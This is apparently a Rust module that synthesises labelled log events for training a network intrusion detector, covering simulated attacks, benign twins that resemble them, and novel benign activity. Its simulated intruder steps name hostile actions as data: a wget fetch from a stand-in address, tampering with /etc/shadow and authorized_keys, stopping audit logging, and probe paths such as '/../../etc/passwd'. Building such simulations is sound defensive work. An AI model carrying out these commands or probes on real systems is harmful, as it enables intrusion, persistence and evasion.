//! Attacks, their benign twins, and benign families that are new.
//!
//! A twin says the same things for an innocent reason; a novelty is innocent and unlike anything in
//! training. Both exist so that no figure rests on telling attacks from quiet days alone.

use nms_model::random::Random;

use super::apps::app_login;
use super::network::app;
use super::network::stranger;
use super::ordinary::{MINUTE_MS, SECOND_MS, local, new_account, restart, ssh_login, sudo_refused, update};
use super::text::one_of;
use super::{App, Kind, Label, Network, Params, Role, Scribe};

/// A kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Attack {
    /// One address tries many passwords, fast or slowly.
    Guessing,
    /// Many addresses try a few passwords each.
    DistributedGuessing,
    /// Guessing that succeeds, and what the intruder does then.
    Intrusion,
    /// One address tries many ports or hosts.
    Scan,
    /// An inside device calls the same outside address again and again, and is blocked.
    Beacon,
    /// A stranger with a good password prepares to stay.
    Persistence,
    /// One address looks for holes in a web site.
    WebProbing,
}

impl Attack {
    /// Every attack.
    pub const ALL: [Self; 7] = [
        Self::Guessing,
        Self::DistributedGuessing,
        Self::Intrusion,
        Self::Scan,
        Self::Beacon,
        Self::Persistence,
        Self::WebProbing,
    ];

    /// Its index among the model's categories, of which 0 is ordinary, and that category's name.
    pub fn category(self) -> (u32, &'static str) {
        match self {
            Self::Guessing | Self::DistributedGuessing => (1, "guessing"),
            Self::Intrusion | Self::Persistence => (2, "intrusion"),
            Self::Scan | Self::WebProbing => (3, "scan"),
            Self::Beacon => (4, "beacon"),
        }
    }
}

/// The model's categories in their order.
pub(crate) const CATEGORIES: [&str; 5] = ["ordinary", "guessing", "intrusion", "scan", "beacon"];

/// A benign twin of an attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Twin {
    /// Somebody forgot the password, and found it.
    Forgetful,
    /// An administrator adds accounts and schedules with a session open.
    Onboarding,
    /// A new printer asks where it may not, for some minutes.
    Misconfigured,
    /// A search engine follows old links.
    Crawler,
}

impl Twin {
    /// Every twin.
    pub const ALL: [Self; 4] = [Self::Forgetful, Self::Onboarding, Self::Misconfigured, Self::Crawler];
}

/// A benign family that training does not have.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Novelty {
    /// A release upgrade: hundreds of packages, services and files.
    Upgrade,
    /// A new service settles in, failing and starting.
    NewService,
    /// A day of migration: many sessions, copies, restarts.
    Migration,
    /// An application of a vendor that the network never had, and whom nobody taught it.
    NewApplication,
    /// Unusual work of an administrator: many accounts at once, at an odd hour.
    AdminWork,
}

impl Novelty {
    /// Every novelty.
    pub const ALL: [Self; 5] =
        [Self::Upgrade, Self::NewService, Self::Migration, Self::NewApplication, Self::AdminWork];
}

/// A time for something to happen: any hour, nights more often where `nightly`.
fn moment(network: &Network, days: usize, nightly: bool, random: &mut Random) -> i64 {
    let day = random.below(days);
    let minute = if nightly && random.chance(0.5) { random.below(330) } else { random.below(1380) };
    local(network, day, minute as i64) + random.below(60_000) as i64
}

fn exposed(network: &Network, random: &mut Random) -> usize {
    random.pick(&network.with_role(Role::Exposed)).copied().unwrap_or(0)
}

/// Writes one attack.
pub(super) fn attack(network: &Network, attack: Attack, random: &mut Random, days: usize, scribe: &mut Scribe) {
    scribe.label = Label::Attack(attack);
    let at = moment(network, days, attack == Attack::Persistence, random);
    let host = exposed(network, random);
    let from = stranger(random);
    let p = Params { ip: from, ..Params::new(network, "root", host, random) };
    match attack {
        Attack::Guessing if random.chance(0.35) => {
            let Some(app) = random.pick(&network.apps).copied() else { return };
            guess_app(app, at, random.between(15, 120), &p, random, scribe);
        }
        Attack::Guessing => {
            let (tries, gap_s) =
                if random.chance(0.3) { (random.between(15, 40), 600) } else { (random.between(20, 150), 3) };
            guess(host, at, tries, gap_s, &p, random, scribe);
        }
        Attack::DistributedGuessing => {
            let mut now = at;
            for _ in 0..random.between(15, 50) {
                let p = Params { ip: stranger(random), ..p.clone() };
                now = guess(host, now, random.between(2, 5), 4, &p, random, scribe)
                    + random.between(2, 40) as i64 * SECOND_MS;
            }
        }
        Attack::Intrusion if random.chance(0.3) => {
            let Some(app) = random.pick(&network.apps).copied() else { return };
            let now = guess_app(app, at, random.between(8, 50), &p, random, scribe);
            take_over(app, now, &p, random, scribe);
        }
        Attack::Intrusion => intrude(network, host, at, &p, random, scribe),
        Attack::Scan => scan(network, at, &p, random, scribe),
        Attack::Beacon => beacon(network, at, random, scribe),
        Attack::Persistence => {
            let user = random.pick(&network.users).map_or_else(|| "root".to_owned(), |user| user.name.clone());
            let p = Params { user, ..p };
            let stands = ssh_login(0.0, host, at, &p, scribe);
            settle(host, stands, &p, random, scribe);
        }
        Attack::WebProbing => probe(host, at, random.between(40, 160), 400, &p, random, scribe),
    }
    scribe.label = Label::Ordinary;
}

fn guess(
    host: usize,
    mut now: i64,
    tries: u64,
    gap_s: u64,
    p: &Params,
    random: &mut Random,
    scribe: &mut Scribe,
) -> i64 {
    let one_name = random.chance(0.4);
    let mut p = p.clone();
    for _ in 0..tries {
        let root = one_name || random.chance(0.3);
        let name = if root {
            "root"
        } else {
            one_of(random, &["admin", "oracle", "test", "git", "user1", "ftpuser", "guest"])
        };
        name.clone_into(&mut p.user);
        p.port = random.between(32_768, 60_000) as u16;
        if random.chance(0.4) {
            scribe.emit(now - 900, host, Kind::PamSshFailed, &p);
        }
        scribe.emit(now, host, if root { Kind::SshLoginFailed } else { Kind::SshInvalidUser }, &p);
        if random.chance(0.6) {
            let kind = if random.chance(0.3) { Kind::SshGaveUp } else { Kind::SshClosed };
            scribe.emit(now + 300, host, kind, &p);
        }
        now += (random.exponential(gap_s as f64) * SECOND_MS as f64) as i64 + 500;
    }
    now
}

/// Guesses the passwords of an application.
fn guess_app(app: App, mut now: i64, tries: u64, p: &Params, random: &mut Random, scribe: &mut Scribe) -> i64 {
    let mut p = p.clone();
    for _ in 0..tries {
        one_of(random, &["admin", "root", "test", "info", "guest", "backup"]).clone_into(&mut p.user);
        p.port = random.between(32_768, 60_000) as u16;
        scribe.emit_app(now, app, Kind::AppLoginFailed, &p);
        now += (random.exponential(3.0) * SECOND_MS as f64) as i64 + 300;
    }
    now
}

/// What an intruder does in an application.
fn take_over(app: App, now: i64, p: &Params, random: &mut Random, scribe: &mut Scribe) {
    let mut now = app_login(app, 0.0, now, p, scribe);
    for _ in 0..random.between(4, 9) {
        let kinds = [Kind::AppAccount, Kind::AppCommand, Kind::AppFile, Kind::AppProcess, Kind::AppConnection];
        let kind = random.pick(&kinds).copied().unwrap_or(Kind::AppCommand);
        scribe.emit_app(now, app, kind, p);
        now += (random.exponential(6.0) * SECOND_MS as f64) as i64 + 400;
    }
}

fn intrude(network: &Network, host: usize, at: i64, p: &Params, random: &mut Random, scribe: &mut Scribe) {
    let now = guess(host, at, random.between(8, 60), 4, p, random, scribe);
    let user = random.pick(&network.users).map_or_else(|| "root".to_owned(), |user| user.name.clone());
    let p = Params { user: if random.chance(0.5) { "root".to_owned() } else { user }, ..p.clone() };
    let stands = ssh_login(0.0, host, now, &p, scribe);
    if p.user != "root" {
        for again in 0..random.between(1, 3) as i64 {
            let kind = sudo_refused(random);
            scribe.emit(stands + 3_000 + again * 4_000, host, kind, &p);
        }
    }
    settle(host, stands + 15_000, &p, random, scribe);
}

/// What an intruder does to stay: commands, accounts, keys, schedules, silence.
fn settle(host: usize, mut now: i64, p: &Params, random: &mut Random, scribe: &mut Scribe) {
    let mut p = p.clone();
    for _ in 0..random.between(3, 7) {
        now += (random.exponential(12.0) * SECOND_MS as f64) as i64 + 1_000;
        match random.below(6) {
            0 => new_account(host, now, &p, scribe),
            1 => {
                one_of(
                    random,
                    &["/root/.ssh/authorized_keys", "/etc/sudoers", "/etc/shadow", "/home/anna/.ssh/authorized_keys"],
                )
                .clone_into(&mut p.path);
                scribe.emit(now, host, Kind::FileChanged, &p);
            }
            2 => {
                scribe.emit(now, host, Kind::CronEdited, &p);
                "/var/spool/cron/crontabs/root".clone_into(&mut p.path);
                scribe.emit(now + 90, host, Kind::FileChanged, &p);
            }
            3 => {
                one_of(random, &["rsyslog", "auditd", "ufw", "fail2ban"]).clone_into(&mut p.unit);
                scribe.emit(now, host, Kind::ServiceStopped, &p);
            }
            4 => scribe.emit(now, host, Kind::GroupAdded, &p),
            _ => {
                one_of(
                    random,
                    &[
                        "/bin/bash",
                        "/usr/bin/wget -q http://203.0.113.9/x",
                        "/usr/bin/chattr +i /tmp/.x",
                        "/usr/sbin/useradd svc",
                    ],
                )
                .clone_into(&mut p.command);
                scribe.emit(now, host, Kind::SudoCommand, &p);
            }
        }
    }
}

fn scan(network: &Network, at: i64, p: &Params, random: &mut Random, scribe: &mut Scribe) {
    let inside = random.chance(0.4);
    let desk = random.below(network.hosts.len());
    let mut p = if inside { Params { ip: network.address(desk), ..p.clone() } } else { p.clone() };
    let mut now = at;
    for _ in 0..random.between(40, 300) {
        p.port = random.between(1, 10_000) as u16;
        if inside {
            p.peer = network.address(random.below(network.hosts.len()));
        }
        scribe.emit(now, 0, Kind::Blocked, &p);
        now += random.between(20, 900) as i64;
    }
}

fn beacon(network: &Network, at: i64, random: &mut Random, scribe: &mut Scribe) {
    let desk = random.below(network.hosts.len());
    let port = random.pick(&[4444, 8443, 6667, 443, 1337]).copied().unwrap_or(443);
    let p = Params { peer: stranger(random), port, ..Params::new(network, "-", desk, random) };
    let period = random.between(20, 180) as i64 * SECOND_MS;
    for beat in 0..random.between(25, 80) as i64 {
        scribe.emit(at + beat * period + random.below(2_000) as i64, 0, Kind::Blocked, &p);
    }
}

fn probe(host: usize, mut now: i64, requests: u64, gap_ms: u64, p: &Params, random: &mut Random, scribe: &mut Scribe) {
    let mut p = p.clone();
    for _ in 0..requests {
        one_of(
            random,
            &[
                "/.env",
                "/wp-login.php",
                "/phpmyadmin/",
                "/.git/config",
                "/cgi-bin/luci",
                "/admin.php",
                "/../../etc/passwd",
            ],
        )
        .clone_into(&mut p.path);
        scribe.emit(now, host, if random.chance(0.96) { Kind::WebFailed } else { Kind::WebOk }, &p);
        now += random.between(20, gap_ms * 2) as i64;
    }
}

/// Writes one twin.
pub(super) fn twin(network: &Network, twin: Twin, random: &mut Random, days: usize, scribe: &mut Scribe) {
    scribe.label = Label::Twin(twin);
    let at = local(network, random.below(days), 480 + random.below(540) as i64);
    let host = exposed(network, random);
    let Some(user) = random.pick(&network.users).cloned() else { return };
    let mut p = Params::new(network, &user.name, user.desk, random);
    match twin {
        Twin::Forgetful if random.chance(0.35) => {
            let Some(app) = random.pick(&network.apps).copied() else { return };
            let mut now = at;
            for _ in 0..random.between(3, 6) {
                scribe.emit_app(now, app, Kind::AppLoginFailed, &p);
                now += random.between(6, 40) as i64 * SECOND_MS;
            }
            app_login(app, 0.0, now, &p, scribe);
        }
        Twin::Forgetful => {
            let mut now = at;
            for _ in 0..random.between(3, 6) {
                scribe.emit(now, host, Kind::SshLoginFailed, &p);
                now += random.between(6, 40) as i64 * SECOND_MS;
            }
            ssh_login(0.0, host, now, &p, scribe);
        }
        Twin::Onboarding => {
            let mut now = ssh_login(0.0, host, at, &p, scribe);
            for _ in 0..random.between(1, 3) {
                scribe.emit(now + 2_000, host, Kind::SudoCommand, &p);
                new_account(host, now + 2_500, &p, scribe);
                now += random.between(30, 200) as i64 * SECOND_MS;
            }
            scribe.emit(now, host, Kind::CronEdited, &p);
        }
        Twin::Misconfigured => {
            p.port = 161;
            for again in 0..random.between(8, 25) as i64 {
                scribe.emit(at + again * 30 * SECOND_MS + random.below(9_000) as i64, 0, Kind::Blocked, &p);
            }
        }
        Twin::Crawler => {
            p.ip = stranger(random);
            let mut now = at;
            for _ in 0..random.between(20, 60) {
                let missing = random.chance(0.35);
                one_of(
                    random,
                    if missing { &["/old/1.html", "/2019/post", "/tag/x"] } else { &["/", "/news", "/feed.xml"] },
                )
                .clone_into(&mut p.path);
                scribe.emit(now, host, if missing { Kind::WebFailed } else { Kind::WebOk }, &p);
                now += random.between(800, 6_000) as i64;
            }
        }
    }
    scribe.label = Label::Ordinary;
}

/// Writes one novelty.
pub(super) fn novelty(network: &Network, novelty: Novelty, random: &mut Random, days: usize, scribe: &mut Scribe) {
    scribe.label = Label::Novel(novelty);
    let mut now = local(network, random.below(days), 540 + random.below(480) as i64);
    let host = random.below(network.hosts.len());
    let Some(user) = network.users.iter().find(|user| user.admin) else { return };
    let mut p = Params::new(network, &user.name, user.desk, random);
    now = ssh_login(0.0, host, now, &p, scribe);
    match novelty {
        Novelty::Upgrade => {
            for _ in 0..random.between(6, 15) {
                update(host, now, &mut p, scribe);
                now += 20 * SECOND_MS;
            }
        }
        Novelty::NewService => {
            for _ in 0..random.between(5, 14) {
                scribe.emit(now, host, Kind::SudoCommand, &p);
                scribe.emit(now + 900, host, Kind::ServiceFailed, &p);
                restart(host, now + 1_500, &p, scribe);
                now += random.between(20, 240) as i64 * SECOND_MS;
            }
        }
        Novelty::NewApplication => {
            let app = app(network.with_role(Role::Exposed).len().max(1), &(0..0), random);
            for step in 0..random.between(20, 60) {
                let kinds = [Kind::AppService, Kind::AppNote, Kind::AppConnection, Kind::AppFile, Kind::AppProcess];
                let kind = random.pick(&kinds).copied().unwrap_or(Kind::AppNote);
                scribe.emit_app(now, app, kind, &p);
                if step % 7 == 6 {
                    app_login(app, user.clumsy, now + 400, &p, scribe);
                }
                now += random.between(1, 40) as i64 * SECOND_MS;
            }
        }
        Novelty::AdminWork => {
            for _ in 0..random.between(6, 18) {
                scribe.emit(now, host, Kind::SudoCommand, &p);
                new_account(host, now + 1_000, &p, scribe);
                now += random.between(20, 90) as i64 * SECOND_MS;
            }
        }
        Novelty::Migration => {
            for _ in 0..random.between(8, 20) {
                let stands = ssh_login(0.0, host, now, &p, scribe);
                scribe.emit(stands + 2_000, host, Kind::FileChanged, &p);
                scribe.emit(stands + 5_000, host, Kind::ContainerNote, &p);
                now = stands + random.between(1, 6) as i64 * MINUTE_MS / 2;
            }
        }
    }
    scribe.label = Label::Ordinary;
}
